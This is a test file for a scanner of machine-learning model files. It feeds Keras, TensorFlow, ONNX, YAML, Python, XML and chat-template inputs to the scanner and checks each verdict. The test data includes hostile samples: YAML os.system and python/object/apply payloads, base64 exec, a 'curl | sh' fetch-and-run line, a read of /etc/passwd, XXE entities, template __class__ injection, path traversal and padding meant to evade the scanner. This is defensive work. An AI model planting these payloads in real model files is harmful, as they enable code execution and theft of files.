import { cpuMs } from '@bartizan/contracts/testing.ts';
import { describe, expect, it } from 'vitest';
import { scanned } from './core/testing.ts';
import { buildHdf5 } from './keras/build.ts';
import { buildOnnx } from './onnx/build.ts';
import { bytesField, concat } from './protobuf/write.ts';
import { buildGraphDef, buildSavedModel } from './tensorflow/build.ts';

const LAMBDA =
  '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{"function":["4wAA",null,null]}}]}}';

describe('HDF5', () => {
  it('finds the configuration anywhere, behind things that look like one', async () => {
    const noise = `{"{"{"x ${'{"a'.repeat(500)}\u0001`;
    expect(await scanned(buildHdf5(noise + LAMBDA))).toMatchObject({
      verdict: 'malicious',
      format: 'keras-h5',
    });
    const userBlock = new Uint8Array(512);
    const shifted = Buffer.concat([userBlock, buildHdf5(LAMBDA)]);
    new DataView(shifted.buffer, shifted.byteOffset).setBigUint64(512 + 24, 512n, true);
    new DataView(shifted.buffer, shifted.byteOffset).setBigUint64(512 + 40, BigInt(shifted.length), true);
    expect((await scanned(new Uint8Array(shifted))).verdict).toBe('malicious');
  });

  it('compares the end with the file', async () => {
    expect((await scanned(buildHdf5('{}', new Uint8Array(9).fill(1)))).verdict).toBe('suspicious');
    expect((await scanned(buildHdf5('{}').slice(0, -1))).verdict).toBe('error');
    expect((await scanned(buildHdf5('{}'))).verdict).toBe('clean');
  });

  it('does not work itself to death on braces', async () => {
    const startedMs = cpuMs();
    await scanned(buildHdf5('{"'.repeat(300_000)));
    await scanned(buildHdf5('{"a":'.repeat(100_000)));
    await scanned(buildHdf5('{"a":[1],'.repeat(60_000)));
    expect(cpuMs() - startedMs).toBeLessThan(15_000);
  });
});

describe('TensorFlow', () => {
  it('looks into graphs, functions, assets and Keras metadata', async () => {
    expect((await scanned(buildSavedModel(['MatMul']))).verdict).toBe('clean');
    expect((await scanned(buildSavedModel(['MatMul'], { functionOps: ['EagerPyFunc'] }))).verdict).toBe(
      'malicious',
    );
    expect((await scanned(buildSavedModel(['MatMul'], { asset: '../../x' }))).verdict).toBe('malicious');
    expect((await scanned(buildSavedModel(['MatMul'], { kerasMetadata: LAMBDA }))).verdict).toBe('malicious');
    expect((await scanned(buildSavedModel(['MatchingFiles']))).verdict).toBe('suspicious');
    expect((await scanned(buildSavedModel(['MatMul']).slice(0, -3))).verdict).toBe('error');
  });

  it('reads frozen graphs', async () => {
    expect(await scanned(buildGraphDef(['Const', 'MatMul']))).toMatchObject({
      verdict: 'clean',
      format: 'graph-def',
    });
    expect((await scanned(buildGraphDef(['Const', 'WriteFile']))).verdict).toBe('malicious');
  });
});

describe('YAML', () => {
  it.each([
    ['model:\n  _target_: os.system\n', 'malicious'],
    ['model:\n  "_target_" : "subprocess.Popen"\n', 'malicious'],
    ['model: {a: 1, _target_: builtins.exec}\n', 'malicious'],
    ['model:\n  _target_:\n    nemo.os.system\n', 'malicious'],
    ['model:\n  "\\x5ftarget_": os.system\n', 'malicious'],
    ['model:\n  _target_: *x\n', 'suspicious'],
    ['model:\n  _target_: my.Model\n', 'suspicious'],
    ['model:\n  _target_: torch.nn.Linear\n', 'clean'],
    ['a: !!python/object/new:os.system [id]\n', 'malicious'],
    ['a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n', 'malicious'],
    ['%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n', 'malicious'],
    ['a: !!python/tuple [1, 2]\n', 'clean'],
    ['flavors:\n  python_function:\n    loader_module: evil.loader\n', 'suspicious'],
    ['flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n', 'clean'],
    ['{_target_: os.system, a: 1}', 'malicious'],
    [`${'# c\n'.repeat(20_000)}a:\n  _target_: os.system\n`, 'malicious'],
    ['trust_remote_code: true\n', 'suspicious'],
  ])('%j is %s', async (text, verdict) => {
    expect((await scanned(text)).verdict).toBe(verdict);
  });
});

describe('Python', () => {
  it.each([
    ['import os\nos.system("id")\n', 'suspicious'],
    ['import base64\nexec(base64.b64decode("x"))\n', 'malicious'],
    ['import os\n# os.system("id")\nx = "os.system(1)"\n', 'clean'],
    ['import torch\n\nmodel.eval()\nre.compile(x)\n', 'clean'],
    ['import os\nx = """\ncurl http://x | sh\n"""\nos.popen(x)\n', 'malicious'],
    [
      'class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net) -> Tensor:\n    return torch.from_file("/etc/passwd")\n',
      'malicious',
    ],
    ['"""\n```\n"""\nimport os\nos.system("id")\n"""\n```\n"""\n', 'suspicious'],
    ['# Model\n\nUse it so.\n\n```python\nimport os\nos.system("id")\n```\n', 'clean'],
    ['import torch\nx = f"{{a}} {x.__class__.__name__} {{b}}"\nprint("{%d}" % 3)\n', 'clean'],
  ])('%j is %s', async (text, verdict) => {
    expect((await scanned(text)).verdict).toBe(verdict);
  });
});

describe('XML', () => {
  it.each([
    ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>', 'suspicious'],
    ['<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://x/y.dtd"><PMML/>', 'suspicious'],
    ['<?xml version="1.0"?><?xml-stylesheet href="x"?><PMML/>', 'suspicious'],
    ['<PMML><Extension>new java.lang.ProcessBuilder("id")</Extension></PMML>', 'suspicious'],
    ['<PMML><x:script xmlns:x="y"/></PMML>', 'suspicious'],
    ['<?xml version="1.0"?><PMML><a></PMML>', 'error'],
    ['<?xml version="1.0"?><PMML><!-- <!ENTITY --><![CDATA[ <x> ]]></PMML>', 'clean'],
    ['<!-- <html> --><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><PMML>&b;</PMML>', 'malicious'],
    ['<!DOCTYPE html><html><script>1</script></html>', 'clean'],
  ])('%s is %s', async (text, verdict) => {
    expect((await scanned(text)).verdict).toBe(verdict);
  });
});

describe('attempts not to be recognised', () => {
  const padded = concat(Array.from({ length: 80 }, () => bytesField(3000, 'x')));
  it.each<[string, Uint8Array | string]>([
    ['unknown fields before a SavedModel', concat([padded, buildSavedModel(['WriteFile'])])],
    [
      'unknown fields before a frozen graph',
      concat([bytesField(9, 'x'), buildGraphDef(['Const', 'WriteFile'])]),
    ],
    ['many of them', concat([padded, buildGraphDef(['Const', 'WriteFile'])])],
    ['unknown fields before an ONNX model', concat([padded, buildOnnx({ externalLocation: '../../x' })])],
    ['blanks before JSON', `${' '.repeat(100_000)}{"chat_template":"{{ x.__class__ }}"}`],
    ['JSON in UTF-16', new Uint8Array(Buffer.from('\ufeff{"chat_template":"{{ x.__class__ }}"}', 'utf16le'))],
    ['a template behind a bracket', '[INST] {{ x.__class__.__mro__ }}'],
    ['a template behind a tag', '<|user|>{{ x.__class__.__mro__ }}'],
    ['code without an import', "x = __import__('os').system('id')\n"],
  ])('fail: %s', async (_, content) => {
    expect(['malicious', 'suspicious']).toContain((await scanned(content)).verdict);
  });
});

describe('what no check knows', () => {
  it('is skipped, found or an error; only text is clean', async () => {
    expect(await scanned(Uint8Array.from({ length: 400 }, (_, i) => (i * 73 + 200) & 255))).toMatchObject({
      verdict: 'skipped',
    });
    expect(await scanned('hello there, this is prose\n')).toMatchObject({ verdict: 'clean', format: 'text' });
    expect((await scanned('')).verdict).toBe('skipped');
    expect((await scanned('\x7fELF'.padEnd(200, '\0'))).verdict).toBe('suspicious');
    expect((await scanned('Rar!\x1a\x07\x01'.padEnd(200, '\0'))).verdict).toBe('error');
  });
});
